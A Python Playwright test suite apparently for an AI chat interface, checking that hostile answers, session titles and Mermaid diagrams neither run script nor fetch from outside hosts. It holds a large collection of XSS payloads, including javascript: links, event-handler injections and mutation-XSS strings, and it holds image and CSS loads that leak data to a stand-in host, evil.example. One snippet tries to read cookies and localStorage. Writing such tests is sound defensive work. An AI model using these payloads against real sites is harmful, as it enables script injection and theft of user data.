"""What an answer may contain, and must not do: run, fetch, or lead astray."""

import re
from collections.abc import AsyncIterator, Sequence
from itertools import islice
from typing import Final
from urllib.parse import urlsplit

import pytest
from playwright.async_api import Browser, BrowserContext, Error, Page, Route, expect

from tests.browser.visitor import Chat, Visitor
from tests.support.server import ServerProcess

pytestmark = pytest.mark.anyio

_BAD: Final = "window.hacked=1"
HOSTILE: Final = [
    f"<script>{_BAD}</script>",
    f"<img src=x onerror={_BAD}>",
    f'<img src="nowhere" onerror="{_BAD}">',
    f"<svg onload={_BAD}>",
    f"<svg><script>{_BAD}</script></svg>",
    f"<svg><animate onbegin={_BAD} attributeName=x dur=1s>",
    f"<iframe src='javascript:parent.{_BAD}'></iframe>",
    f'<iframe srcdoc="<script>parent.{_BAD}</script>"></iframe>',
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    '<div style="background:url(https://evil.example/x)">x</div>',
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button>x</button></form>",
    f"<details open ontoggle={_BAD}>x</details>",
    f"<input autofocus onfocus={_BAD}>",
    f"<body onload={_BAD}>",
    f"<video><source onerror={_BAD}></video>",
    f"<audio src=x onerror={_BAD}>",
    f"<math><mtext><img src=x onerror={_BAD}></mtext></math>",
    "<img srcset='https://evil.example/a 1x, https://evil.example/b 2x'>",
    "<picture><source srcset=https://evil.example/a><img></picture>",
    f"<template><script>{_BAD}</script></template>",
    f"<noscript><img title='</noscript><img src=x onerror={_BAD}>'></noscript>",
    f"[a](javascript:{_BAD})",
    f"[a](JaVaScRiPt:{_BAD})",
    f"[a](java\tscript:{_BAD})",
    f"[a](&#106;avascript:{_BAD})",
    f"[a](javascript&colon;{_BAD})",
    f"[a](<javascript:{_BAD}>)",
    f"[a](\x01javascript:{_BAD})",
    f"<javascript:{_BAD}>",
    f"[a](vbscript:{_BAD})",
    f"[a](data:text/html,<script>{_BAD}</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](file:///etc/passwd)",
    "[a](blob:https://evil.example/x)",
    "[a](//evil.example/x)",
    "[a](v1/sessions)",
    f"[a][r]\n\n[r]: javascript:{_BAD}",
    f'[a](https://evil.example/ "x\' onmouseover={_BAD}")',
    "![a](https://evil.example/leak?q=secret)",
    "![a][r]\n\n[r]: https://evil.example/leak",
    "![a](//evil.example/leak)",
    "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
    f"![a](javascript:{_BAD})",
    "[![a](https://evil.example/leak)](https://evil.example/)",
    "| ![a](https://evil.example/leak) |\n|---|\n| <img src=https://evil.example/leak> |",
    f"```html\n<script>{_BAD}</script>\n```",
    f'```"><img src=x onerror={_BAD}>\nx\n```',
    f"`<img src=x onerror={_BAD}>`",
    f"$\\href{{javascript:{_BAD}}}{{x}}$",
    "$\\includegraphics{https://evil.example/leak}$",
    f"$\\htmlData{{x=1}}{{<img src=x onerror={_BAD}>}}$",
    "$\\htmlStyle{background:url(https://evil.example/x)}{x}$",
    "$$\n\\def\\a{\\a\\a}\\a\n$$",
    f"$\\unknown{{<img src=x onerror={_BAD}>}}$",
    "$\\rule{1e9em}{1e9em}$",
    f"[^1]\n\n[^1]: <img src=x onerror={_BAD}>",
    f"<a id=root name=root href=javascript:{_BAD}>x</a>",
    f"[a]( javascript:{_BAD})",
    f"[a](jav&#x09;ascript:{_BAD})",
    f"[a](java%0ascript:{_BAD})",
    f"[a](feed:javascript:{_BAD})",
    f"[a](view-source:javascript:{_BAD})",
    f"[a](intent://x#Intent;S.browser_fallback_url=javascript:{_BAD};end)",
    f"[a](\u200bjavascript:{_BAD})",
    f"[javascript:{_BAD}](javascript:{_BAD})",
    f"<a href='&#x6a;&#x61;vascript:{_BAD}'>x</a>",
    f"<a href=https://evil.example/ ping=https://evil.example/leak onclick={_BAD}>x</a>",
    "<a href=https://evil.example/ style='position:fixed;inset:0'>x</a>",
    "<img loading=eager src=//evil.example/leak>",
    "<img src=data:image/svg+xml,%3Csvg%20onload=alert(1)%3E>",
    "<svg><image href=https://evil.example/leak /></svg>",
    "<svg><use href=https://evil.example/leak#x /></svg>",
    "<svg><foreignObject><img src=https://evil.example/leak></foreignObject></svg>",
    f"<svg><a xlink:href=javascript:{_BAD}><text y=20>x</text></a></svg>",
    f"<svg><set attributeName=onmouseover to={_BAD}></svg>",
    "<svg><style>*{background:url(https://evil.example/leak)}</style></svg>",
    "<svg filter='url(https://evil.example/leak#x)'></svg>",
    "<link rel=preload as=image href=https://evil.example/leak>",
    "<link rel=prefetch href=https://evil.example/leak>",
    "<link rel=icon href=https://evil.example/leak>",
    "<table background=https://evil.example/leak><tr><td>x</table>",
    "<body background=https://evil.example/leak>",
    "<input type=image src=https://evil.example/leak>",
    "<video poster=https://evil.example/leak></video>",
    "<video src=https://evil.example/leak autoplay></video>",
    "<audio src=https://evil.example/leak autoplay></audio>",
    "<track src=https://evil.example/leak>",
    "<script src=https://evil.example/leak.js></script>",
    "<script type=module>import 'https://evil.example/leak.js'</script>",
    "<script type=importmap>{}</script>",
    f"<button popovertarget=x onclick={_BAD}>x</button><div id=x popover onbeforetoggle={_BAD}>x</div>",
    f"<div style=animation:breathe onanimationstart={_BAD}>x</div>",
    f"<marquee onstart={_BAD}>x</marquee>",
    f"<select autofocus onfocus={_BAD}><option>x</select>",
    f"<xss contenteditable autofocus onfocus={_BAD}>x</xss>",
    f"<custom-element onpointerenter={_BAD}>x</custom-element>",
    f"<math href=javascript:{_BAD}><mi>x</mi></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_BAD}&gt;'>",
    f"<svg></p><style><a id='</style><img src=x onerror={_BAD}>'>",
    f"<!--><img src=x onerror={_BAD}>-->",
    f"<![CDATA[<img src=x onerror={_BAD}>]]>",
    f"<?xml-stylesheet href='javascript:{_BAD}'?>",
    "<frameset><frame src=https://evil.example/leak></frameset>",
    "<portal src=https://evil.example/leak></portal>",
    "<fencedframe src=https://evil.example/leak></fencedframe>",
    "![a][]\n\n[a]: https://evil.example/leak",
    "![a]\n\n[a]: <https://evil.example/leak> 'title'",
    "![a](https://evil.example/leak 'x' srcset=https://evil.example/leak)",
    "![![a](https://evil.example/leak)](https://evil.example/leak)",
    "![a](\\\\evil.example/leak)",
    "![a](v1/sessions)",
    "[^https://evil.example/leak]\n\n[^https://evil.example/leak]: ![a](https://evil.example/leak)",
    "- [ ] ![a](https://evil.example/leak)\n- [x] <input type=image src=https://evil.example/leak>",
    "<https://evil.example/%22onmouseover=window.hacked=1//>",
    "[bank.example](https://evil.example/)",
    "$\\url{javascript:window.hacked=1}$",
    "$\\htmlClass{dialog}{x}\\htmlId{root}{x}$",
    "$\\text{<script>window.hacked=1</script>}$",
    "$\\color{red;background:url(https://evil.example/leak)}x$",
    "$\\gdef\\x{\\x\\x}\\x$",
    '$\\char"3Cscript\\char"3E$',
    "$$\n\\begin{matrix}" + "x&" * 2_000 + "\\end{matrix}\n$$",
    '```chart\n{"data":{"url":"https://evil.example/leak"}}\n```',
    "```svg\n<svg><image href=https://evil.example/leak /></svg>\n```",
    "```mermaid\n",
    f"[x]: javascript:{_BAD}\n\n[x]",
    "[x]: https://evil.example/leak\n\n![x]",
]
_IMAGE: Final = f"<img src=https://evil.example/leak onerror={_BAD}>"
DIAGRAMS: Final = [
    f'flowchart LR\nA-->B\nclick A href "javascript:{_BAD}"',
    f"flowchart LR\nA-->B\nclick A call {_BAD.replace('=', '(')})",
    'flowchart LR\nA-->B\nclick A href "https://evil.example/" _self',
    f'%%{{init: {{"securityLevel": "loose", "htmlLabels": true}}}}%%\nflowchart LR\nA["{_IMAGE}"]-->B',
    '%%{init: {"themeCSS": "*{background:url(https://evil.example/leak)}"}}%%\nflowchart LR\nA-->B',
    '%%{init: {"themeCSS": "@import url(https://evil.example/leak)"}}%%\nflowchart LR\nA-->B',
    '%%{init: {"fontFamily": "x;}*{background:url(https://evil.example/leak)}"}}%%\nflowchart LR\nA-->B',
    '%%{init: {"themeVariables": {"primaryColor": "red;background:url(https://evil.example/leak)"}}}%%\npie\n"a": 1',
    "---\nconfig:\n  securityLevel: loose\n  themeCSS: '*{mask:url(//evil.example/leak)}'\n---\nflowchart LR\nA-->B",
    f"flowchart LR\nA[{_IMAGE}]-->B",
    f'flowchart LR\nA["`{_IMAGE}`"]-->B',
    "flowchart LR\nA[#60;img src=https://evil.example/leak#62;]-->B",
    "flowchart LR\nA[&lt;img src=https://evil.example/leak&gt;]-->B",
    f"flowchart LR\nA[<script>{_BAD}</script>]-->B",
    f"flowchart LR\nA[<iframe srcdoc='<script>parent.{_BAD}</script>'>]-->B",
    f"flowchart LR\nA[<a href='javascript:{_BAD}'>x</a>]-->B",
    "flowchart LR\nA-->B\nstyle A fill:#fff,background:url(https://evil.example/leak)",
    "flowchart LR\nA-->B\nstyle A filter:url(https://evil.example/leak#x)",
    "flowchart LR\nA-->B\nstyle A background:u\\72l(https://evil.example/leak)",
    "flowchart LR\nA-->B\nclassDef x background-image:url(https://evil.example/leak)\nclass A x",
    "flowchart LR\nA-->B\nlinkStyle 0 mask:url(https://evil.example/leak#x)",
    'flowchart LR\nA@{ img: "https://evil.example/leak", label: "x" }-->B',
    'flowchart LR\nA@{ "img" : "https://evil.example/leak" }-->B',
    'flowchart LR\nA@{ "im\\u0067" : "https://evil.example/leak" }-->B',
    'flowchart LR\nA@{ icon: "https://evil.example/leak" }-->B',
    f"flowchart LR\nA[$$\\href{{javascript:{_BAD}}}{{x}}$$]-->B",
    f"sequenceDiagram\nAlice->>Bob: {_IMAGE}",
    f'sequenceDiagram\nparticipant A\nlinks A: {{"x": "javascript:{_BAD}"}}\nA->>A: x',
    f'classDiagram\nclass A\nlink A "javascript:{_BAD}"',
    'classDiagram\nclass A\ncallback A "alert"',
    f'gantt\nsection {_IMAGE}\na :a1, 2026-01-01, 1d\nclick a1 href "javascript:{_BAD}"',
    f'pie title {_IMAGE}\n"{_IMAGE}": 1',
    f"mindmap\n  root(({_IMAGE}))\n    ::icon(fa fa-x)",
    'C4Context\nPerson(a, "a", $sprite="https://evil.example/leak")\nUpdateElementStyle(a, $bgColor="url(https://evil.example/leak)")',
    f"stateDiagram-v2\n[*] --> A\nA : {_IMAGE}",
    f'erDiagram\nA ||--o{{ B : "{_IMAGE}"',
    f"timeline\ntitle {_IMAGE}\n2026 : {_IMAGE}",
    "architecture-beta\nservice a(https://evil.example/leak)[x]",
    "flowchart LR\n" + "A-->B\n" * 5_000,
    "this is no diagram",
]


# So few messages are in the document together.
_AT_ONCE: Final = 90
Hearing = tuple[Chat, list[str]]
# Diagrams apart, which have their frames: nothing that fetches or runs, whoever put it there.
_FOREIGN: Final = (
    ".log :is(script, iframe:not(.diagram iframe), object, embed, style, link, base, meta, form, video, audio, portal, "
    "img, [onerror], [onload], [onfocus], [onclick], [srcset], [ping], [background])"
)


@pytest.fixture(params=["with its policy", "without its policy"])
async def target(
    chromium: Browser, steady_server: ServerProcess, request: pytest.FixtureRequest
) -> AsyncIterator[Hearing]:
    """Without its policy the sanitiser alone holds: nothing that leaves is even tried."""
    bypass = request.param == "without its policy"
    # High enough for everything to be in sight, so that whatever is loaded lazily is loaded.
    context = await chromium.new_context(bypass_csp=bypass, locale="en-GB", viewport={"width": 1200, "height": 16_000})
    elsewhere: list[str] = []
    home = f"{steady_server.url}/"
    context.on("request", lambda sent: None if sent.url.startswith(home) else elsewhere.append(sent.url))
    yield await Visitor(context, steady_server.url).tab(), elsewhere
    await context.close()


@pytest.mark.promise("X-02", "U-01")
async def test_hostile_output_neither_runs_nor_fetches(target: Hearing) -> None:
    """As answers, thoughts, names of tools and files, arguments and results."""
    chat, elsewhere = target
    assert len(HOSTILE) >= 60
    links = 0
    for first in range(0, len(HOSTILE), _AT_ONCE):
        links += await _harmless(chat, HOSTILE[first : first + _AT_ONCE])
        assert elsewhere == []
    assert links, "the good addresses are links"


async def _harmless(chat: Chat, outputs: Sequence[str]) -> int:
    """How many links there are among them."""
    await chat.show([*outputs, "$e^x$"])
    for details in await chat.page.locator(".log details").all():
        await details.evaluate("node => node.open = true")
    await expect(chat.answers.last.locator(".katex")).to_be_visible()  # and so are those before it
    assert not await _hacked(chat.page)
    await expect(chat.page.locator(_FOREIGN)).to_have_count(0)
    links = await chat.page.eval_on_selector_all(
        ".log a[href]:not(.file-card)", "all => all.map(a => [a.protocol, a.rel, a.title, a.target])"
    )
    for protocol, rel, title, target_ in links:
        assert protocol in {"http:", "https:", "mailto:"}
        assert {"noopener", "noreferrer"} <= set(rel.split())
        assert title
        assert target_ == "_blank"
    for answer in await chat.answers.filter(has_text="bank.example").all():
        await expect(answer.locator(".true-host")).to_have_text(" (evil.example)")
    await chat.screenshot("hostile")
    return len(links)


@pytest.mark.promise("X-02")
async def test_hostile_titles_are_text(target: Hearing) -> None:
    chat, elsewhere = target
    session = {"agent_id": "demo", "agent_name": HOSTILE[0], "last_activity": "2026-01-01T00:00:00Z"}
    session["created_at"] = session["last_activity"]
    titled = [session | {"id": f"ses_{number:026}", "title": title} for number, title in enumerate(HOSTILE)]
    listed = {"data": titled, "running": [], "has_more": False, "next": None}
    await chat.page.route(f"{chat.url}/v1/sessions?*", lambda route: route.fulfill(json=listed))
    await chat.show(HOSTILE[:1])
    rows = chat.page.locator(".sidebar .row, .row")
    await expect(rows.filter(has_text="<script>").first).to_be_visible()
    assert not await _hacked(chat.page)
    assert elsewhere == []
    await expect(chat.page.locator(".row :is(script, iframe, img, svg, style, object, embed)")).to_have_count(0)


@pytest.mark.timeout(240)
@pytest.mark.promise("X-02", "U-01")
async def test_hostile_diagrams_neither_run_nor_fetch(target: Hearing) -> None:
    """Whatever can't be drawn safely stands as it was written."""
    chat, elsewhere = target
    good = "flowchart LR\nGood-->Better"
    todo = iter([good, *DIAGRAMS])
    while diagrams := list(islice(todo, 2)):
        await chat.show([f"```mermaid\n{source}\n```" for source in diagrams])
        await expect(chat.answers.locator(".diagram[data-state=drawing]")).to_have_count(0)
        if diagrams[0] == good:
            await expect(chat.answers.first.locator(".diagram[data-state=drawn]")).to_be_visible()
        assert not await _hacked(chat.page)
        assert elsewhere == []
        await expect(chat.page.locator(_FOREIGN)).to_have_count(0)
        for frame in chat.page.frames[1:]:
            assert (
                await frame.locator("svg img, svg image, svg script, [onerror], a[href]:not([href^='#'])").count() == 0
            )
        await chat.page.goto("about:blank")


@pytest.mark.promise("X-02")
async def test_the_policy_alone_holds(chromium: Browser, steady_server: ServerProcess) -> None:
    """As if the sanitiser were not there: what reaches the document as HTML, by whatever way is left, does nothing."""
    context = await chromium.new_context()
    page = await context.new_page()
    elsewhere = await _watch(context, steady_server.url)
    chat = await Chat(page, steady_server.url).open()
    for name, way in _WAYS.items():
        assert await page.evaluate(way), f"Trusted Types: no text becomes HTML by {name}"
    files = {f"/hostile/{number}": _careless(text) for number, text in enumerate(HOSTILE)}
    await page.route(
        "**/hostile/*",
        lambda route: route.fulfill(body=files[urlsplit(route.request.url).path], content_type="text/html"),
    )
    for path, text in files.items():
        await page.evaluate(_PUT_IN, chat.url + path)
        assert not await _hacked(page), text
    await page.evaluate("fetch('https://evil.example/leak').catch(() => null)")
    assert elsewhere == []
    assert page.url.startswith(chat.url), "nobody was led away"
    await context.close()


@pytest.mark.promise("X-02")
async def test_the_policy_of_diagrams_alone_holds(chromium: Browser, steady_server: ServerProcess) -> None:
    """As if Mermaid and we cleaned nothing: HTML that stands in the document of diagrams does nothing, and sees nothing."""
    context = await chromium.new_context()
    page = await context.new_page()
    elsewhere = await _watch(context, steady_server.url)
    chat = Chat(page, steady_server.url)
    await chat.show(["```mermaid\nflowchart LR\nA-->B\n```"])
    await expect(page.locator(".diagram[data-state=drawn]")).to_be_visible()
    frame = page.frames[1]
    for text in [*HOSTILE, *DIAGRAMS, _IMAGE]:
        if "http-equiv" in text:  # leads the frame away, into the error that the page's policy makes of it
            continue
        await frame.evaluate(_PUT_INTO_FRAME, _careless(text))
        assert not await _hacked(page), text
    reached = await frame.evaluate(_REACH)
    assert reached == []
    assert elsewhere == []
    await expect(chat.answers).to_have_count(1)
    await context.close()


_PUT_INTO_FRAME: Final = """html => {
    document.body.innerHTML = html;
    const clicked = [...document.querySelectorAll("a, button, summary")];
    clicked.filter(each => !each.href || each.protocol === "javascript:").forEach(each => each.click());
}"""
_REACH: Final = """async () => {
    const reached = [];
    const attempt = async (name, what) => { try { await what(); reached.push(name) } catch { /* refused */ } };
    await attempt("the page", () => parent.document.body);
    await attempt("the storage", () => localStorage.length);
    await attempt("cookies", () => document.cookie);
    await attempt("the API", () => fetch(new URL("/v1/sessions", location.href)));
    await attempt("elsewhere", () => fetch("https://evil.example/leak"));
    return reached;
}"""
_MARKUP: Final = "<img src=https://evil.example/leak onerror='window.hacked=1'>"
_WAYS: Final = {
    name: f"() => {{ try {{ {way.replace('HTML_', repr(_MARKUP))}; return false }} catch {{ return true }} }}"
    for name, way in {
        "innerHTML": "document.body.innerHTML = HTML_",
        "outerHTML": "document.body.firstElementChild.outerHTML = HTML_",
        "insertAdjacentHTML": "document.body.insertAdjacentHTML('beforeend', HTML_)",
        "document.write": "document.write(HTML_)",
        "a fragment": "document.createRange().createContextualFragment(HTML_)",
        "a parser": "new DOMParser().parseFromString(HTML_, 'text/html')",
        "setHTMLUnsafe": "document.body.setHTMLUnsafe(HTML_)",
        "parseHTMLUnsafe": "Document.parseHTMLUnsafe(HTML_)",
        "srcdoc": "document.createElement('iframe').srcdoc = HTML_",
        "another document": "document.implementation.createHTMLDocument().body.innerHTML = HTML_",
        "a template": "document.createElement('template').innerHTML = HTML_",
        "a script's text": "document.createElement('script').text = HTML_",
        "a script's address": "document.createElement('script').src = HTML_",
        "a policy of one's own": "trustedTypes.createPolicy('mine', {})",
    }.items()
}
# An XMLHttpRequest parses a document, and no Trusted Types ask it. What leads away without a click is left out:
# a policy can't forbid to navigate.
_PUT_IN: Final = """url => new Promise(done => {
    const request = new XMLHttpRequest();
    request.responseType = "document";
    request.onload = () => {
        const place = document.createElement("div");
        const found = request.response;
        found.querySelectorAll("meta[http-equiv=refresh]").forEach(each => each.remove());
        place.append(...[...found.head.childNodes, ...found.body.childNodes].map(node => document.importNode(node, true)));
        document.body.append(place);
        // A good address would lead away, as it should.
        const clicked = [...place.querySelectorAll("a, button, summary")];
        clicked.filter(each => !each.href || each.protocol === "javascript:").forEach(each => each.click());
        setTimeout(() => { place.remove(); done() }, 30);
    };
    request.open("GET", url);
    request.send();
})"""


async def _hacked(page: Page) -> bool:
    """In the page, or in a document of diagrams; what may be framed there would say so to its parent."""
    own = [page.main_frame, *(frame for frame in page.frames if "/assets/diagram" in frame.url)]
    for frame in own:
        try:
            if await frame.evaluate("window.hacked !== undefined"):
                return True
        except Error:
            if not frame.is_detached():  # a diagram that can't be drawn is taken out, and its document with it
                raise
    return False


async def _watch(context: BrowserContext, home: str) -> list[str]:
    """The foreign requests that leave. A route and not "request", which tells of those that the policy stops, too."""
    elsewhere: list[str] = []

    async def leave(route: Route) -> None:
        elsewhere.append(route.request.url)
        await route.abort()

    await context.route(lambda url: not url.startswith((f"{home}/", "data:", "blob:")), leave)
    return elsewhere


def _careless(text: str) -> str:
    """Markdown as somebody would draw it who cleans nothing."""
    drawn = re.sub(r"!\[([^\]]*)\]\(([^)]*)\)", r'<img alt="\1" src="\2">', text)
    return re.sub(r"\[([^\]]*)\]\(([^)]*)\)", r'<a href="\2">\1</a>', drawn)
